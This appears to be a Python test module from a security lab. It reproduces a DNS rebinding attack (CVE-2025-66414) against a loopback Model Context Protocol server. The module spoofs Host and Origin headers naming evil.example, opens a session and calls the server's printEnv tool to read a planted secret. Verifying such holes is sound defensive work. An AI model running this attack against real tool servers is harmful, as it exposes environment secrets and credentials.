"""A server on loopback that answers to any name: a web page whose name leads there (DNS rebinding) can call its tools."""

import urllib.parse

from attack import Attack, Http, module, program
from lab import Lab, free_port
from request import INITIALIZE, bearer, request
from session import Session

CALL = {"jsonrpc": "2.0", "id": 2, "method": "tools/call", "params": {"name": "printEnv", "arguments": {}}}


def server(lab: Lab) -> Http:
    port = free_port()
    script = module("everything", "@modelcontextprotocol/server-everything/dist/index.js")
    return Http(program("node"), [str(script), "streamableHttp"], lab.inside, port, {"PORT": str(port), "SECRET": lab.secret})


async def ordinary(session: Session, _: Lab) -> None:
    await session.expect("hello", "echo", message="hello")
    await session.expect("5", "add", a=2, b=3)


async def attack(session: Session, _: Lab) -> None:
    """What the page's requests look like, and the same with a token, which the page would not have."""
    page = f"evil.example:{urllib.parse.urlsplit(session.endpoint).port}"
    for who in ({}, bearer(session.token)):
        for names in ({"Host": page, "Origin": f"http://{page}"}, {"Host": page}, {"Origin": f"http://{page}"}):
            answer = request("POST", session.endpoint, {**who, **names}, INITIALIZE)
            session.heard.append(answer.text)
            if answer.session:
                opened = {**who, **names, "Mcp-Session-Id": answer.session}
                session.heard.append(request("POST", session.endpoint, opened, CALL).text)


ATTACKS = (
    Attack(
        name="everything-rebinding",
        ids="CVE-2025-66414",
        package="@modelcontextprotocol/server-everything@2025.9.25 on @modelcontextprotocol/sdk@1.23.0",
        what="calls a tool from a web page whose name leads to loopback",
        prepare=lambda lab: None,
        server=server,
        ordinary=ordinary,
        attack=attack,
        happened=lambda session, lab: session.heard_of(lab.secret),
        no_sandbox="the server runs by itself, so that the gateway puts no sandbox around it; over stdio it would have no port",
        needs=("everything",),
    ),
)
